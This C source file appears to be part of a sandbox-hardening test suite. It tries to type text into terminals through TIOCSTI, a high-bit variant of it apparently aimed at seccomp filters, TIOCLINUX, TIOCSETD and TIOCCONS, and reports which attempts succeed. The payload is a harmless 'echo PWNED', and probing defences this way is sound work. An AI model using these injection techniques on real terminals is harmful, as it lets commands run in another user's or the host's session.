/* SPDX-License-Identifier: Apache-2.0 */
/* terminal.c - typing into somebody else's terminal, and finding one. */
#include <sys/ioctl.h>
#include <termios.h>

#include "attack.h"

static void push(int fd, const char *name, unsigned long request)
{
	const char *text = "echo PWNED\n";
	char label[64];

	snprintf(label, sizeof(label), "%s", name);
	for (const char *c = text; *c; c++)
		if (syscall(SYS_ioctl, fd, request, c) < 0) {
			no(label, errno);
			return;
		}
	yes(label, "typed");
}

/* Every descriptor and every path that may be a terminal: PATH... */
static void type(int argc, char **argv)
{
	char label[128], paste[2] = { 3, 0 };
	int discipline = 0;

	for (int fd = 0; fd < 3; fd++) {
		snprintf(label, sizeof(label), "fd%d", fd);
		push(fd, label, TIOCSTI);
		snprintf(label, sizeof(label), "fd%d-high", fd);
		push(fd, label, 0x100000000UL | TIOCSTI);
		snprintf(label, sizeof(label), "fd%d-linux", fd);
		tried(label, ioctl(fd, TIOCLINUX, paste));
		snprintf(label, sizeof(label), "fd%d-discipline", fd);
		tried(label, ioctl(fd, TIOCSETD, &discipline));
		snprintf(label, sizeof(label), "fd%d-console", fd);
		tried(label, ioctl(fd, TIOCCONS));
	}
	for (int i = 0; i < argc; i++) {
		int fd = open(argv[i], O_RDWR | O_NONBLOCK);

		snprintf(label, sizeof(label), "open:%s", argv[i]);
		tried(label, fd);
		if (fd >= 0) {
			snprintf(label, sizeof(label), "type:%s", argv[i]);
			push(fd, label, TIOCSTI);
		}
	}
}

int main(int argc, char **argv)
{
	static const struct subcommand all[] = { { "type", type }, { NULL, NULL } };

	return dispatch(all, argc, argv);
}
